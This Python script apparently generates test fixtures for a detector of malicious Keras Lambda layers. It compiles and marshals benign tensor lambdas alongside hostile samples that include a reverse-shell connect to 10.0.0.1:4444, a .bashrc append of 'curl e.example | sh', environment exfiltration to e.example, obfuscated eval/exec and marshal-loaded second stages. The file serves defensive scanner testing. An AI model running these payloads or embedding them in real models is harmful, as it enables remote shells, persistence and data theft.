# Writes testdata/lambdas/<major.minor>.json: marshal.dumps of the code of
# benign and malicious lambdas, base64-encoded exactly as Keras' func_dump
# does (codecs.encode(raw, "base64"): 76 columns, trailing newline), plus
# the function's defaults. Run under every installed CPython by gen.sh.
# Nothing here is ever called: the lambdas are only compiled.
import codecs
import json
import marshal
import sys

CASES = [
    # benign tensor math (KERAS-100)
    ("b_mul", "lambda x: x * 2"),
    ("b_tf", "lambda x: tf.reduce_sum(tf.square(x), axis=-1, keepdims=True)"),
    ("b_K", "lambda x: K.l2_normalize(x, axis=1)"),
    ("b_np", "lambda x: np.clip(x, 0.0, 1.0) + np.float32(0.5)"),
    ("b_ops", "lambda x: keras.ops.expand_dims(x[:, 0], -1)"),
    ("b_slice", "lambda x: x[:, 1:3, ::2]"),
    ("b_concat", "lambda t: tf.concat([t[0], t[1]], axis=-1)"),
    ("b_default", "lambda x, a=0.5, axis='channels_last': x * a"),
    ("b_listcomp", "lambda xs: [tf.reduce_mean(x) for x in xs]"),
    ("b_genexpr", "lambda xs: sum(x * 2 for x in xs)"),
    ("b_cond", "lambda x: x if x is not None else 0"),
    ("b_shape", "lambda x: tf.reshape(x, (-1, int(x.shape[1]) * 2))"),
    ("b_torch", "lambda x: torch.nn.functional.relu(x).mean(dim=1)"),
    ("b_closure", "def make(scale):\n    return lambda x: x * scale + len(range(3))\nf = make(2.0)"),
    # one malicious lambda per M indicator (KERAS-101)
    ("M1_eval", "lambda x: eval('1+1') or x"),
    ("M1_builtins", "lambda x: __builtins__['ex' + 'ec']('pass') or x"),
    ("M1_reflect", "lambda x: getattr(globals()['__builtins__'], 'ev' + 'al')('1') or x"),
    ("M1_methodcaller", "lambda x: __import__('operator').methodcaller('system', 'id')(__import__('os')) or x"),
    ("M2_import", "lambda x: __import__('subprocess') and x"),
    ("M3_getattr_import", "lambda x: getattr(__import__('os'), 'system')('id') or x"),
    ("M3_listcomp", "lambda xs: [os.system(c) for c in xs]"),
    ("M3_sysmodules", "lambda x: __import__('sys').modules['os'].system('id') or x"),
    ("M3_os", "lambda x: os.system('id') or x"),
    ("M3_popen", "lambda x: __import__('os').popen('id').read() or x"),
    ("M4_shell", "lambda x: (__import__('socket').socket().connect(('10.0.0.1', 4444)), __import__('os').dup2(0, 0), x)[-1]"),
    ("M5_marshal", "lambda x: marshal.loads(codecs.decode(b'4w==', 'base64')) or x"),
    ("M5_types", "lambda x: python_types.FunctionType(x.__code__, {})"),
    ("M6_decode_exec", "lambda x: eval(__import__('base64').b64decode('MSsx')) or x"),
    ("M7_reflect_string", "lambda x: getattr(x, 'ev' + 'al')('1+1')"),
    ("M8_unsafe", "lambda x: keras.config.enable_unsafe_deserialization() or x"),
    ("M9_bashrc", "lambda x: open('/home/u/.bashrc', 'a').write('curl e.example | sh') or x"),
    ("M10_exfil", "lambda x: __import__('urllib.request').request.urlopen('http://e.example/?' + os.environ['HOME']) or x"),
    # one suspicious lambda per S indicator (KERAS-102)
    ("S1_env", "lambda x: x * float(os.getenv('SCALE', '1'))"),
    ("S2_decode", "lambda x: x + len(codecs.decode('YWJj', 'base64'))"),
    ("S3_url", "lambda x: x + len('http://evil.example/beacon')"),
    ("S4_dunder", "lambda x: x.__class__.__name__ and x"),
    ("S5_listdir", "lambda x: x * len(os.listdir('.'))"),
    ("S6_cwd", "lambda x: x if os.getcwd() else x"),
    ("S7_sleep", "lambda x: __import__('time').sleep(1) or x"),
    ("S8_ctypes", "lambda x: __import__('ctypes').CDLL(None) and x"),
    ("S9_blob", "lambda x: x + len('" + "Zm9vYmFy" * 40 + "')"),
    ("U1_unknown", "lambda x: foo.bar(x)"),
    # a bare name that only Keras 2's "module" namespace binds (os.system for module "os")
    ("K2_module_os", "lambda x: system('id') or x"),
    # a second-stage payload: marshal.loads of another code object's bytes
    ("M5_nested", "NESTED"),
    # the research's sample lambdas (marshal-vectors.jsonl)
    ("V_malicious", "lambda x: (__import__('os').system('id'), exec(\"print(1)\"), x)[2]"),
    ("V_benign", "lambda x: x * 2"),
]

NESTED_INNER = "lambda: __import__('os').system('id')"


def compile_case(src):
    ns = {}
    if src == "NESTED":
        inner = marshal.dumps(eval(compile(NESTED_INNER, "<stdin>", "eval")).__code__)
        src = "lambda x: marshal.loads(%r) or x" % inner
    if src.startswith("lambda"):
        return eval(compile(src, "<stdin>", "eval"), ns)
    exec(compile(src, "<stdin>", "exec"), ns)
    return ns["f"]


def jsonable(v):
    if v is None or isinstance(v, (bool, int, float, str)):
        return v
    return repr(v)


def main():
    out = {}
    for name, src in CASES:
        try:
            fn = compile_case(src)
        except SyntaxError:
            continue
        code = getattr(fn, "__code__", None) or fn.func_code
        raw = marshal.dumps(code)
        entry = {"code": codecs.encode(raw, "base64").decode("ascii"), "defaults": None, "closure": None}
        defaults = getattr(fn, "__defaults__", None)
        if defaults:
            entry["defaults"] = [jsonable(d) for d in defaults]
        closure = getattr(fn, "__closure__", None)
        if closure:
            entry["closure"] = [jsonable(c.cell_contents) for c in closure]
        out[name] = entry
    json.dump(out, sys.stdout, sort_keys=True, indent=1)
    sys.stdout.write("\n")


main()
